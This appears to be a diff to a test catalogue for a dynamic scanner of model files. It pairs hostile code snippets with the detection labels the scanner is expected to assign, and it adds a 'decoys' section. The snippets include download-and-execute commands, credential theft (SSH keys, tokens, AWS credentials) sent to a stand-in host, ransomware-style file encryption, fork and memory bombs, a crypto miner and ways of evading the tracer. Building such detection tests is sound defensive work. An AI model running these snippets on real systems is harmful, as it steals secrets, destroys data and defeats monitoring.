@@ -56,13 +56,13 @@ CATALOGUE = {
             try: data = urllib.request.urlopen('http://{HOST}/stage2', timeout=2).read()
             except OSError: data = b'#!/bin/sh\\nid\\n'
             open('/tmp/stage2', 'wb').write(data); os.chmod('/tmp/stage2', 0o755)
-            subprocess.run(['/tmp/stage2'])"""), "DYN-NET-CONTACT DYN-EXEC-DROPPED"),
+            subprocess.run(['/tmp/stage2'])"""), "DYN-NET-CONTACT DYN-EXEC-DOWNLOADED"),
         case("curl in a shell", sh(f"curl -s http://{HOST}/x -o /tmp/x; chmod +x /tmp/x; /tmp/x"), "DYN-EXEC-FETCH"),
         case("wget piped to a shell", run("sh", "-c", f"wget -qO- http://{HOST}/x | sh"), "DYN-EXEC-FETCH"),
         case("raw socket and execve", raw(f"""
             s = S('socket', 2, 1, 0); S('connect', s, ADDRESS('{HOST}', 80), 16); S('write', s, b'GET /x HTTP/1.0\\r\\n\\r\\n', 19)
             f = S('openat', HERE, b'/tmp/stage', 0o101, 0o755); S('write', f, b'#!/bin/sh\\n', 10); os.close(f)
-            X(b'/tmp/stage', b'stage')"""), "DYN-NET-CONTACT DYN-EXEC-DROPPED"),
+            X(b'/tmp/stage', b'stage')"""), "DYN-NET-CONTACT DYN-EXEC-DOWNLOADED"),
         case("fetched code is executed", py(f"""
             import urllib.request
             try: code = urllib.request.urlopen('http://{HOST}/stage.py', timeout=2).read().decode()
@@ -162,7 +162,7 @@ CATALOGUE = {
         case("raw openat", raw("S('openat', HERE, b'/proc/self/environ', 0)"), "DYN-CRED-ENVIRONMENT"),
         case("os.environ sent away", py(f"""
             import os, socket
-            s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(repr(dict(os.environ)).encode()[:4000], ('{HOST}', 9999))"""), "DYN-NET-CONTACT"),
+            s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(repr(dict(os.environ)).encode()[:4000], ('{HOST}', 9999))"""), "DYN-NET-CONTACT DYN-THEFT-PROOF"),
         case("of the first process", py("open('/proc/1/environ').read()"), "DYN-CRED-ENVIRONMENT"),
     ],
     "13 Account files": [
@@ -178,6 +178,7 @@ CATALOGUE = {
         case("a shell's inventory", sh("id; uname -a; ls -la ~"), "DYN-EXEC-SHELL"),
         case("raw execve", raw("X(b'/usr/bin/id', b'id')"), "DYN-EXEC-PROGRAM"),
         case("os.walk over the home folder", py("import os; list(os.walk('/home/model'))"), "DYN-DISC-HOME"),
+        case("the machine's id", py("open('/etc/machine-id').read()"), "DYN-DISC-SYSTEM"),
         case("the list of processes", py("import os; [open('/proc/%s/cmdline' % p).read() for p in os.listdir('/proc') if p.isdigit()]"), "DYN-DISC-PROCESSES"),
     ],
     "15 Scheduled tasks": [
@@ -221,14 +222,14 @@ CATALOGUE = {
             for n in range(20): os.remove(f'/home/model/docs/{n}.txt')"""), "DYN-DELETE-MANY"),
         case("rm -rf", sh("mkdir ~/d; for n in 1 2 3 4 5 6 7 8 9 10 11 12; do echo x > ~/d/$n; done; rm -rf ~/d"), "DYN-DELETE-MANY"),
         case("raw unlinkat", raw("for n in range(15): S('unlinkat', HERE, HOME + b'/report%d.doc' % n, 0)"), "DYN-DELETE-MANY"),
-        case("rmtree of the home folder", Call(shutil.rmtree, "/home/model", True), "DYN-DISC-HOME|DYN-DELETE-FILE|DYN-DELETE-MANY"),
+        case("rmtree of the home folder", Call(shutil.rmtree, "/home/model", True), "DYN-DELETE-MANY|DYN-DESTROY-DOCUMENTS"),
         case("encrypts and renames", py("""
             import os
             for n in range(15): open(f'/home/model/{n}.doc', 'w').write('text' * 100)
             for n in range(15):
               data = open(f'/home/model/{n}.doc', 'rb').read()
               open(f'/home/model/{n}.doc', 'wb').write(os.urandom(len(data)))
-              os.rename(f'/home/model/{n}.doc', f'/home/model/{n}.doc.locked')"""), "DYN-DELETE-MANY|DYN-WRITE-ENCRYPT"),
+              os.rename(f'/home/model/{n}.doc', f'/home/model/{n}.doc.locked')"""), "DYN-DELETE-MANY|DYN-DESTROY-DOCUMENTS"),
     ],
     "21 Miner": [
         case("xmrig", run("xmrig", "-o", "stratum+tcp://pool.example.com:3333", "-u", "x"), "DYN-EXEC-MINER"),
@@ -237,7 +238,7 @@ CATALOGUE = {
         case("stratum over a socket", py(f"""
             import socket
             s = socket.create_connection(('{HOST}', 3333), 2)
-            s.sendall(b'{{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}}\\n')"""), "DYN-NET-MINER|DYN-EXEC-MINER|DYN-NET-CONTACT"),
+            s.sendall(b'{{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}}\\n')"""), "DYN-NET-MINING"),
     ],
     "22 Fork bomb": [
         case("os.fork", py("import os\nwhile True:\n  try: os.fork()\n  except OSError: pass"), "DYN-LIMIT-PROCESSES", **LIMITS),
@@ -255,12 +256,12 @@ CATALOGUE = {
         case("the home folder", py("import os\nd = os.open('/home/model/x', os.O_CREAT | os.O_WRONLY)\nwhile True: os.write(d, b'x' * (1 << 20))"), "DYN-LIMIT-DISK", **LIMITS),
     ],
     "24 Memory bomb": [
-        case("bytearray", py("a = []\nwhile True: a.append(bytearray(64 << 20))"), "DYN-LIMIT-MEMORY", **LIMITS),
-        case("a child's", run("perl", "-e", "@a=(); while(1){push @a, 'x' x 50000000}"), "DYN-LIMIT-MEMORY", **LIMITS),
+        case("bytearray", py("a = []\nwhile True: a.append(bytearray(64 << 20))"), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
+        case("a child's", run("perl", "-e", "@a=(); while(1){push @a, 'x' x 50000000}"), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
         case("raw mmap", raw("""
             C.mmap.restype = ctypes.c_void_p
-            while True: ctypes.memset(C.mmap(None, ctypes.c_size_t(64 << 20), 3, 0x22, -1, ctypes.c_long(0)), 1, 64 << 20)"""), "DYN-LIMIT-MEMORY", **LIMITS),
-        case("a bomb of decompression", py("import zlib\ndata = zlib.compress(bytes(200 << 20), 9)\na = []\nwhile True: a.append(zlib.decompress(data) + b'x')"), "DYN-LIMIT-MEMORY", **LIMITS),
+            while True: ctypes.memset(C.mmap(None, ctypes.c_size_t(64 << 20), 3, 0x22, -1, ctypes.c_long(0)), 1, 64 << 20)"""), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
+        case("a bomb of decompression", py("import zlib\ndata = zlib.compress(bytes(200 << 20), 9)\na = []\nwhile True: a.append(zlib.decompress(data) + b'x')"), "DYN-LIMIT-MEMORY|DYN-LIMIT-OUT-OF-MEMORY", **LIMITS),
     ],
     "25 Descriptor exhaustion": [
         case("open", py("a = []\nwhile True: a.append(open('/dev/null'))"), "DYN-LIMIT-FILES", **LIMITS),
@@ -286,7 +287,7 @@ CATALOGUE = {
               os.setsid()
               if os.fork() == 0:
                 time.sleep(3600); os.execv('/usr/bin/id', ['id'])
-              os._exit(0)"""), "DYN-EVADE-LEFT DYN-EXEC-PROGRAM"),
+              os._exit(0)"""), "DYN-EXEC-PROGRAM"),
         case("nohup in a shell", sh("(sleep 2; exec id) >/dev/null 2>&1 &"), "DYN-EXEC-SHELL"),
         case("raw clone", raw("""
             if S('clone', 17, 0, 0, 0, 0) == 0:
@@ -340,10 +341,10 @@ CATALOGUE = {
     ],
     "33 For another system": [
         case("nt.system", ByName("nt.system", "calc.exe"), "DYN-PY-OTHER-SYSTEM"),
-        case("winreg", ByName("winreg.CreateKey", "x"), "DYN-PY-OTHER-SYSTEM"),
-        case("calc.exe", py("import subprocess; subprocess.run(['calc.exe'])"), "DYN-EXEC-PROGRAM|DYN-PY-OTHER-SYSTEM"),
-        case("open -a", sh("open -a Calculator"), "DYN-EXEC-SHELL|DYN-EXEC-BROWSER"),
-        case("raw execve", raw("X(b'/Windows/System32/cmd.exe', b'cmd.exe', b'/c', b'calc')"), "DYN-EXEC-SHELL|DYN-PY-OTHER-SYSTEM|DYN-EXEC-PROGRAM"),
+        case("winreg", ByName("winreg.CreateKey", "x"), "DYN-PY-OTHER-SYSTEM", verdicts=["suspicious", "malicious"]),
+        case("calc.exe", py("import subprocess; subprocess.run(['calc.exe'])"), "DYN-EXEC-OTHER-SYSTEM"),
+        case("open -a", sh("open -a Calculator"), "DYN-EXEC-SHELL"),
+        case("raw execve", raw("X(b'/Windows/System32/cmd.exe', b'cmd.exe', b'/c', b'calc')"), "DYN-EXEC-OTHER-SYSTEM"),
         case("os.startfile", ByName("os.startfile", "calc.exe"), "DYN-PY-OTHER-SYSTEM"),
     ],
     "34 Opens a web page": [
@@ -357,7 +358,7 @@ CATALOGUE = {
         case("eval", Call(eval, "print('hello')"), "DYN-PY-CODE"),
         case("compile", py("exec(compile('x = 1', 'weights', 'exec'))"), "DYN-PY-CODE"),
         case("marshal", py("import marshal, types; types.FunctionType(marshal.loads(marshal.dumps(compile('print(1)', 'm', 'exec'))), {})()"), "DYN-PY-CODE"),
-        case("print alone", Call(print, "hello"), "DYN-PY-GLOBAL|STATIC-PICKLE-UNLISTED|STATIC-PICKLE-CALLS|STATIC-PICKLE-SYSTEM", verdicts=["suspicious", "malicious"]),
+        case("print alone", Call(print, "hello"), "DYN-PY-GLOBAL|STATIC-PICKLE-UNLISTED|STATIC-PICKLE-SYSTEM", verdicts=["suspicious", "malicious"]),
     ],
     "36 Installs packages": [
         case("pip", run("pip", "install", "example-package"), "DYN-EXEC-INSTALL"),
@@ -377,11 +378,11 @@ CATALOGUE = {
         case("in /dev/shm", py("import os, shutil; shutil.copy('/bin/true', '/dev/shm/t'); os.spawnv(os.P_WAIT, '/dev/shm/t', ['t'])"), "DYN-EXEC-DROPPED"),
     ],
     "38 Drops a native library": [
-        case("ctypes", py("import ctypes, glob, shutil; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/x.so'); ctypes.CDLL('/tmp/x.so')"), "DYN-EXEC-LIBRARY"),
-        case("without the suffix", py("import ctypes, glob, shutil; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/weights.bin'); ctypes.CDLL('/tmp/weights.bin')"), "DYN-EXEC-LIBRARY"),
-        case("raw dlopen", raw("C.dlopen(b'/home/model/x.so', 2)"), "DYN-EXEC-LIBRARY"),
-        case("in a child", sh("cp /usr/lib/*/libz.so.1 /dev/shm/p.so; LD_PRELOAD=/dev/shm/p.so true; LD_PRELOAD=/dev/shm/p.so /bin/true"), "DYN-EXEC-LIBRARY|DYN-EXEC-PRELOAD"),
-        case("an extension module", py("import shutil, sys, glob; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/fast.so'); sys.path.insert(0, '/tmp'); import fast"), "DYN-EXEC-LIBRARY"),
+        case("ctypes", py("import ctypes, glob, shutil; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/x.so'); ctypes.CDLL('/tmp/x.so')"), "DYN-EXEC-DROPPED-LIBRARY"),
+        case("without the suffix", py("import ctypes, glob, shutil; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/weights.bin'); ctypes.CDLL('/tmp/weights.bin')"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY"),
+        case("raw dlopen", raw("C.dlopen(b'/home/model/x.so', 2)"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY"),
+        case("in a child", sh("cp /usr/lib/*/libz.so.1 /dev/shm/p.so; LD_PRELOAD=/dev/shm/p.so true; LD_PRELOAD=/dev/shm/p.so /bin/true"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY|DYN-EXEC-PRELOAD"),
+        case("an extension module", py("import shutil, sys, glob; shutil.copy(glob.glob('/usr/lib/*/libz.so.1')[0], '/tmp/fast.so'); sys.path.insert(0, '/tmp'); import fast"), "DYN-EXEC-DROPPED-LIBRARY|DYN-EXEC-LIBRARY"),
     ],
     "39 LD_PRELOAD": [
         case("ld.so.preload", py("open('/etc/ld.so.preload', 'w')"), "DYN-PERSIST-PRELOAD"),
@@ -403,11 +404,11 @@ CATALOGUE = {
     "41 Rewrites its own code": [
         case("/proc/self/mem", py("open('/proc/self/mem', 'r+b')"), "DYN-EVADE-MEMORY"),
         case("raw openat", raw("S('openat', HERE, b'/proc/thread-self/mem', 2)"), "DYN-EVADE-MEMORY"),
-        case("mmap of writable code", py("import mmap; m = mmap.mmap(-1, 4096, prot=7); m.write(b'\\xc3')"), "DYN-EVADE-CODE|DYN-EVADE-MEMORY|DYN-EXEC-SHELLCODE"),
+        case("mmap of writable code", py("import mmap; m = mmap.mmap(-1, 4096, prot=7); m.write(b'\\xc3')"), "DYN-EVADE-CODE"),
         case("mprotect", raw("""
             C.mmap.restype = ctypes.c_void_p
             p = C.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, ctypes.c_long(0))
-            C.mprotect(ctypes.c_void_p(p), ctypes.c_size_t(4096), 7)"""), "DYN-EVADE-CODE|DYN-EVADE-MEMORY|DYN-EXEC-SHELLCODE"),
+            C.mprotect(ctypes.c_void_p(p), ctypes.c_size_t(4096), 7)"""), "DYN-EVADE-CODE"),
         case("in a shell", sh("printf x > /proc/self/mem"), "DYN-EVADE-MEMORY"),
     ],
     "42 Tracer detection": [
@@ -434,7 +435,7 @@ CATALOGUE = {
         case("raw kill of all", raw("S('kill', -1, 19)"), "DYN-EVADE-KILL"),
         case("pidfd", raw("f = S('pidfd_open', os.getppid(), 0); S('pidfd_send_signal', f, 9, 0, 0)"), "DYN-EVADE-KILL"),
         case("seccomp", raw("S('seccomp', 1, 0, b'\\0' * 16)"), "DYN-EVADE-FILTER"),
-        case("the trace itself", py("open('/proc/1/fd/1', 'w').write('+++ exited with 0 +++')"), "DYN-ESCAPE-KERNEL-FILE|DYN-EVADE-TRACE|DYN-DISC-PROCESSES"),
+        case("the trace itself", py("open('/proc/1/fd/1', 'w').write('+++ exited with 0 +++')"), "DYN-ESCAPE-KERNEL-FILE|DYN-DISC-PROCESSES"),
     ],
     "45 Leaves the tracer": [
         case("CLONE_UNTRACED", raw("if S('clone', 0x00800000 | 17, 0, 0, 0, 0) == 0: S('execve', b'/bin/true', A(b'true'), A()); S('exit_group', 1)"), "DYN-EVADE-UNTRACED|DYN-ESCAPE-FORBIDDEN"),
@@ -484,7 +485,7 @@ CATALOGUE = {
             tarfile.open(fileobj=b).extractall('/tmp', filter='fully_trusted')"""), "DYN-PERSIST-SHELL"),
         case("raw symlinkat and openat", raw("S('symlinkat', b'/usr/lib', HERE, b'/tmp/l'); S('openat', HERE, b'/tmp/l/evil.so', 0o101, 0o644)"), "DYN-WRITE-SYSTEM"),
         case("ln in a shell", sh("ln -s / /tmp/root; echo > /tmp/root/usr/x"), "DYN-WRITE-SYSTEM"),
-        case("a hard link", py("import os; os.link('/etc/passwd', '/tmp/p')"), "DYN-WRITE-SYSTEM|DYN-CRED-ACCOUNTS|DYN-ESCAPE-LINK"),
+        case("a hard link", py("import os; os.link('/etc/passwd', '/tmp/p')"), "DYN-WRITE-SYSTEM|DYN-CRED-ACCOUNTS|DYN-LINK-ESCAPE"),
     ],
     "51 Administrator rights": [
         case("setuid(0)", py("import os; os.setuid(0)"), "DYN-PRIV-IDENTITY"),
@@ -500,6 +501,30 @@ CATALOGUE = {
         case("raw unlinkat", raw("S('unlinkat', HERE, b'/home/model/.zsh_history', 0)"), "DYN-WIPE-TRACES"),
         case("the model deletes itself", py("import glob, os; [os.remove(p) for p in glob.glob('/model/*')]"), "DYN-DELETE-FILE|DYN-WIPE-TRACES"),
         case("truncate", py("open('/home/model/.python_history', 'w')"), "DYN-WIPE-TRACES"),
+    ],
+}
+
+DECOYS = {
+    "D1 Takes decoys away": [
+        case("an SSH key over TCP", py(f"import socket; s = socket.create_connection(('{HOST}', 443), 3); s.sendall(open('/home/model/.ssh/id_rsa', 'rb').read())"), "DYN-CRED-SSH DYN-THEFT-PROOF DYN-NET-CONTACT"),
+        case("a token in base64 over HTTP", py(f"""
+            import base64, urllib.request
+            t = open('/home/model/.cache/huggingface/token', 'rb').read()
+            urllib.request.urlopen('http://{HOST}/?t=' + base64.b64encode(t).decode(), timeout=3)"""), "DYN-CRED-TOKEN DYN-THEFT-PROOF"),
+        case("in a child's arguments", sh(f"curl -d \"$(cat ~/.aws/credentials)\" http://{HOST}/"), "DYN-CRED-TOKEN DYN-EXEC-FETCH"),
+        case("into a file", sh("cat ~/.netrc > /tmp/loot"), "DYN-CRED-TOKEN DYN-THEFT-PROOF"),
+        case("raw read and sendto", raw(f"""
+            f = S('openat', HERE, HOME + b'/.git-credentials', 0); data = os.read(f, 4096)
+            s = S('socket', 2, 2, 0); S('sendto', s, data, len(data), 0, ADDRESS('{HOST}', 9999), 16)"""), "DYN-CRED-TOKEN DYN-THEFT-PROOF"),
+        case("over TLS", py("""
+            import urllib.request
+            data = open('/home/model/.npmrc', 'rb').read() + open('/home/model/.pypirc', 'rb').read()
+            urllib.request.urlopen('https://collect.example.com/', data, timeout=5)"""), "DYN-CRED-TOKEN DYN-THEFT-PROOF DYN-NET-LOOKUP"),
+    ],
+    "D2 Destroys decoy documents": [
+        case("unlink", py("import glob, os\nfor p in glob.glob('/home/model/Documents/*'): os.remove(p)"), "DYN-DESTROY-DOCUMENTS|DYN-DELETE-MANY|DYN-DELETE-FILE"),
+        case("in a shell", sh("for f in ~/Documents/*; do head -c 100 /dev/urandom > \"$f\"; mv \"$f\" \"$f.locked\"; done"), "DYN-DESTROY-DOCUMENTS"),
+        case("overwritten in place", py("import glob, os\nfor p in glob.glob('/home/model/Documents/*'):\n  with open(p, 'r+b') as f: n = len(f.read()); f.seek(0); f.write(os.urandom(n))"), "DYN-DESTROY-DOCUMENTS|DYN-WRITE-HOME"),
     ],
 }
 
@@ -538,9 +563,9 @@ EVASIONS = {
         case("another file over the channel", raw("f = S('openat', HERE, b'/dev/null', 1)\nS('dup3', f, 3, 0)\nX(b'/usr/bin/id', b'id')"), "DYN-EXEC-PROGRAM"),
     ],
     "E6 Floods the trace": [
-        case("access", py("import os\nos.system('id')\nwhile True: os.access('/nowhere', 0)"), "DYN-EXEC-SHELL limit:trace|limit:time", **LIMITS),
-        case("writes", py("import os\nos.system('id')\nf = os.open('/dev/null', 1)\nwhile True: os.write(f, b'x' * 4096)"), "DYN-EXEC-SHELL limit:trace|limit:time", **LIMITS),
-        case("a child's", sh("while :; do : > /dev/null; done"), "DYN-EXEC-SHELL limit:trace|limit:time", **LIMITS),
+        case("access", py("import os\nos.system('id')\nwhile True: os.access('/nowhere', 0)"), "DYN-EXEC-SHELL DYN-EVADE-FLOOD|limit:trace|limit:time", **LIMITS),
+        case("writes", py("import os\nos.system('id')\nf = os.open('/dev/null', 1)\nwhile True: os.write(f, b'x' * 4096)"), "DYN-EXEC-SHELL DYN-EVADE-FLOOD|limit:trace|limit:time", **LIMITS),
+        case("a child's", sh("while :; do : > /dev/null; done"), "DYN-EXEC-SHELL DYN-EVADE-FLOOD|limit:trace|limit:time", **LIMITS),
     ],
     "E7 Forges our output": [
         case("records", py("import os\nfor r in ('{\"k\":\"loaded\",\"type\":\"dict\"}', '{\"k\":\"done\"}'): os.write(3, b'dynscan:' + __import__('__main__').JOB['nonce'].encode() + b' ' + r.encode())\nos.system('id')"), "DYN-EVADE-FORGERY DYN-EXEC-SHELL"),
@@ -550,16 +575,16 @@ EVASIONS = {
         case("supervisor's messages", py("import sys\nprint('{\"t\":\"end\",\"ended\":\"finished\",\"exit\":0,\"oom\":0}', file=sys.stderr, flush=True)\nimport os; os.system('id')"), "DYN-EXEC-SHELL"),
     ],
     "E8 Renames processes": [
-        case("PR_SET_NAME", raw("S('prctl', 15, b'strace', 0, 0, 0); X(b'/usr/bin/id', b'id')"), "DYN-EXEC-PROGRAM"),
-        case("comm", py("import os; open('/proc/self/comm', 'w').write('python3'); os.system('id')"), "DYN-EXEC-SHELL"),
-        case("argv[0]", py("import os; os.spawnv(os.P_WAIT, '/bin/sh', ['[kworker/0:1]', '-c', 'id'])"), "DYN-EXEC-SHELL"),
-        case("exec -a", sh("bash -c 'exec -a sshd sleep 1'"), "DYN-EXEC-SHELL"),
+        case("PR_SET_NAME", raw("S('prctl', 15, b'kworker/0:1', 0, 0, 0); X(b'/usr/bin/id', b'id')"), "DYN-EXEC-PROGRAM DYN-EVADE-NAME"),
+        case("comm", py("import os; open('/proc/self/comm', 'w').write('sshd'); os.system('id')"), "DYN-EXEC-SHELL DYN-EVADE-NAME"),
+        case("argv[0]", py("import os; os.spawnv(os.P_WAIT, '/bin/sh', ['[kworker/0:1]', '-c', 'id'])"), "DYN-EXEC-SHELL DYN-EVADE-NAME"),
+        case("exec -a", sh("bash -c 'exec -a sshd sleep 1'"), "DYN-EXEC-SHELL DYN-EVADE-NAME"),
         case("a copy under another name", py("import os, shutil; shutil.copy('/bin/sh', '/tmp/torch_worker'); os.spawnv(os.P_WAIT, '/tmp/torch_worker', ['torch_worker', '-c', 'id'])"), "DYN-EXEC-DROPPED"),
     ],
     "E9 Leaves early": [
-        case("os._exit", Call(os._exit, 0), "DYN-EVADE-EXIT|DYN-EVADE-STOP-ITSELF|load:left"),
-        case("SystemExit", py("import sys; sys.stdout.flush()\nraise SystemExit(0)"), "DYN-EVADE-EXIT|DYN-EVADE-STOP-ITSELF|load:left|load:raised"),
-        case("raw exit_group", raw("S('exit_group', 0)"), "DYN-EVADE-EXIT|DYN-EVADE-STOP-ITSELF|load:left"),
+        case("os._exit", Call(os._exit, 0), "DYN-EVADE-QUIT"),
+        case("SystemExit", py("import sys; sys.stdout.flush()\nraise SystemExit(0)"), "DYN-EVADE-QUIT"),
+        case("raw exit_group", raw("S('exit_group', 0)"), "DYN-EVADE-QUIT"),
         case("SIGKILL for itself", py("import os; os.kill(os.getpid(), 9)"), "DYN-EVADE-STOP-ITSELF"),
         case("exec over itself", py("import os; os.execv('/bin/true', ['true'])"), "DYN-EXEC-PROGRAM"),
     ],
@@ -667,7 +692,7 @@ ESCAPES = {
         case("raw init_module", raw("S('init_module', b'\\x7fELF', 4, b'')"), "DYN-ESCAPE-KERNEL"),
         case("raw finit_module", raw("S('finit_module', 0, b'', 0)"), "DYN-ESCAPE-KERNEL"),
         case("insmod", sh("insmod /tmp/rootkit.ko"), "DYN-EXEC-SHELL"),
-        case("modprobe", run("/sbin/modprobe", "rootkit"), "DYN-EXEC-PROGRAM|DYN-ESCAPE-MODULE"),
+        case("modprobe", run("/sbin/modprobe", "rootkit"), "DYN-EXEC-PROGRAM"),
     ],
     "X10 /proc/sys": [
         case("core_pattern in a shell", sh("echo '|/tmp/x' > /proc/sys/kernel/core_pattern"), "DYN-ESCAPE-KERNEL-FILE"),
@@ -701,4 +726,4 @@ ESCAPES = {
     ],
 }
 
-BEHAVIOURS = {**CATALOGUE, **EVASIONS, **RESOURCES, **ESCAPES}
+BEHAVIOURS = {**CATALOGUE, **DECOYS, **EVASIONS, **RESOURCES, **ESCAPES}
